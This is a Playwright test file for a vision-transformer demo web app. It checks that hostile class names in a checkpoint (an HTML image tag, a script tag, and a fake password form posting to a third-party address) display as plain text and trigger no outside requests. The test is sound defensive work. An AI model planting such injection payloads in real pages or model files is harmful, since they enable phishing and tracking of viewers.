"""A checkpoint's class names are untrusted text: in a real browser, every tab shows them as written, never as markup.

The served checkpoint's id2label holds HTML and Markdown payloads (an image and a form to a third-party address, a
script, a table cell break, emphasis). The page is driven through Classify, Attention (a class-specific map, its
caption and the class choice), Compare methods and Inside; every request the page makes is recorded, and any to
an address other than the app's is blocked and counted.
"""

from __future__ import annotations

import re
from urllib.parse import urlparse

import pytest

from conftest import EXAMPLES, chromium, launched, make_transformers
from vit_demo.registry import Registry

WAIT_MS = 60_000
OUTSIDE = "198.51.100.7"  # TEST-NET-2: an address that answers nothing, standing for a third party
LABELS = {
    0: f'<img src="http://{OUTSIDE}/a.png">',
    1: f"![x](http://{OUTSIDE}/b.png)",
    2: f'<form action="http://{OUTSIDE}/"><input type="password" name="p">log in</form>',
    3: "left|right",
    4: "**bold** _it_ `code`",
    5: "<script>window.__pwned = 1</script>",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    ref = make_transformers(tmp / "hostile", "small", image_size=32, patch_size=8, num_labels=len(LABELS), id2label=LABELS)
    with launched(Registry([str(ref.path)], default=str(ref.path), device="cpu"), tmp) as (_, url):
        yield url


def test_hostile_class_names_are_text_in_every_tab_and_nothing_leaves_the_page(served):
    from playwright.sync_api import expect

    names = set(LABELS.values())
    requests, blocked = [], []
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.set_default_timeout(WAIT_MS)

        def guard(route):
            host = urlparse(route.request.url).hostname
            if host not in ("127.0.0.1", "localhost") and not route.request.url.startswith("data:"):
                blocked.append(route.request.url)
                return route.abort()
            return route.continue_()

        context.route("**/*", guard)
        page = context.new_page()
        page.on("request", lambda r: requests.append(r.url))
        page.goto(served, wait_until="domcontentloaded")
        page.locator("#photo").wait_for(state="visible")

        # Classify: every row's name is one of the labels, character for character.
        page.locator('#photo input[data-testid="file-upload"]').set_input_files(str(EXAMPLES / "chelsea.jpg"))
        expect(page.locator("#label td.name")).to_have_count(5)
        rows = page.locator("#label td.name").all_inner_texts()
        assert set(rows) <= names and len(set(rows)) == 5, rows
        top = page.locator("#label .top-class").inner_text()
        assert top == rows[0]

        # Attention: a class-specific map's caption names the class as written; the class choice lists them so.
        page.get_by_role("tab", name="Attention").filter(visible=True).first.click()
        page.locator("#method label", has_text="Relevance (Chefer et al. 2021)").click()
        expect(page.locator("#map-class")).to_contain_text(f"This map explains the class {top}")
        page.locator("#target input").click()
        options = page.get_by_role("option").all_inner_texts()
        shown = [re.sub(r"^✓\s*", "", o.strip()) for o in options]  # the selected one is ticked
        assert len(shown) == 5 and all(any(o.startswith(f"{n} (") for n in names) for o in shown), options
        page.keyboard.press("Escape")

        # Compare methods: the table names the class as written, and every row has as many cells as the header.
        page.locator("#compare").get_by_text("Compare methods").click()
        page.locator("#compare-btn").click()
        table = page.locator("#compare-table")
        expect(table).to_contain_text("random order", timeout=WAIT_MS)
        expect(table).to_contain_text(top)
        widths = table.locator("tr").evaluate_all("rows => rows.map(r => r.children.length)")
        assert len(set(widths)) == 1, widths

        # Inside: the read-out names classes as written.
        page.get_by_role("tab", name="Inside").filter(visible=True).first.click()
        answers = page.locator("#inside-layers")
        answers.scroll_into_view_if_needed()
        expect(answers).to_contain_text(f"The final answer is {top}.", timeout=WAIT_MS)
        cells = answers.locator("tr").evaluate_all("rows => rows.map(r => r.children.length)")
        assert len(set(cells)) == 1 and len(cells) == 3, cells  # a header and one row per block (2 blocks)

        # Nothing of the payloads became markup.
        found = page.evaluate(f"""() => ({{
            password: document.querySelectorAll('input[type=password]').length,
            forms: [...document.querySelectorAll('form')].filter(f => (f.action || '').includes('{OUTSIDE}')).length,
            images: [...document.querySelectorAll('img')].filter(i => (i.src || '').includes('{OUTSIDE}')).length,
            links: [...document.querySelectorAll('a')].filter(a => (a.href || '').includes('{OUTSIDE}')).length,
            strong: [...document.querySelectorAll('strong, em, code')].filter(e => /^(bold|it|code)$/.test(e.innerText)).length,
            pwned: window.__pwned === 1,
        }})""")
        context.close()
    assert found == {"password": 0, "forms": 0, "images": 0, "links": 0, "strong": 0, "pwned": False}, found
    outside = [u for u in requests if OUTSIDE in u]
    assert not outside, outside
    assert not blocked, f"the page asked for other hosts: {blocked[:5]}"
    assert any(re.search(r"/gradio_api/", u) for u in requests)  # the recording saw the page's own requests
